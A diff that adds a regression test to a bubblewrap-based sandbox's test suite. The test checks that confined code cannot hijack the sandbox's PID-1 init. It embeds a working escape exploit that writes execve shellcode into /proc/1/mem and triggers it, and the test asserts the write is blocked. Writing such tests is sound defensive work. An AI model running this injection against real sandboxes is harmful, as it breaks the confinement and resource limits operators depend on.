@@ -116,3 +116,57 @@ def test_exit_status_is_what_a_shell_reports(
     result = sandboxed(code, mode=mode, cpu_seconds=1, timeout=10)
     assert result.exit_code == status, (what, result)
     assert not result.timed_out
+
+
+# The code writes a few instructions into bubblewrap's init (PID 1 of its namespace) through
+# /proc/1/mem, where the init waits in wait4, and wakes it with an orphan that exits: the
+# init then runs execve of python3 with the attacker's program, as PID 1, outside every
+# limit the guest set on itself (run only confined: unconfined, PID 1 is the host's init).
+TAKE_OVER_INIT = r"""
+import os, struct, time
+rip = int(open('/proc/1/syscall').read().split()[-1], 16)
+payload = (
+    "import os, resource\n"
+    "soft = resource.getrlimit(resource.RLIMIT_AS)[0]\n"
+    "print('ESCAPED init runs our code, pid', os.getpid(), 'RLIMIT_AS', soft, flush=True)\n"
+)
+strings = [b'/usr/bin/python3\0', b'-c\0', payload.encode() + b'\0']
+code_len = 29
+data_at = rip + 32
+addresses, blob = [], b''
+for s in strings:
+    addresses.append(data_at + len(blob))
+    blob += s
+blob += b'\0' * (-(data_at + len(blob)) % 8)
+argv_at = data_at + len(blob)
+blob += struct.pack('<4Q', *addresses, 0)
+code = (b'\x48\xbf' + struct.pack('<Q', addresses[0]) + b'\x48\xbe' + struct.pack('<Q', argv_at)
+        + b'\x31\xd2' + b'\xb8\x3b\x00\x00\x00' + b'\x0f\x05')
+assert len(code) == code_len
+try:
+    with open('/proc/1/mem', 'r+b', buffering=0) as mem:
+        mem.seek(rip)
+        mem.write(code + b'\x90' * (data_at - rip - code_len) + blob)
+except OSError as exc:
+    print('BLOCKED', exc)
+if os.fork() == 0:
+    if os.fork() == 0:
+        time.sleep(0.3)
+        os._exit(0)
+    os._exit(0)
+os.wait()
+time.sleep(1.5)
+"""
+
+
+def test_the_code_cannot_write_into_bubblewraps_init(
+    sandboxed: Callable[..., SandboxResult],
+) -> None:
+    """bubblewrap's init runs as the code's own user and is dumpable, so ptrace's rules let
+    the code open ``/proc/1/mem`` for writing (ptrace itself is refused; this is not). Before
+    ``/proc`` was read-only, the attack above made PID 1 run the attacker's program with no
+    address-space, CPU or process limit (RLIMIT_AS unlimited, NOFILE the host's)."""
+    result = sandboxed(TAKE_OVER_INIT, timeout=8)
+    assert "ESCAPED" not in result.stdout, (result.stdout, result.stderr)
+    assert "BLOCKED" in result.stdout, (result.stdout, result.stderr)
+    assert "Read-only file system" in result.stdout
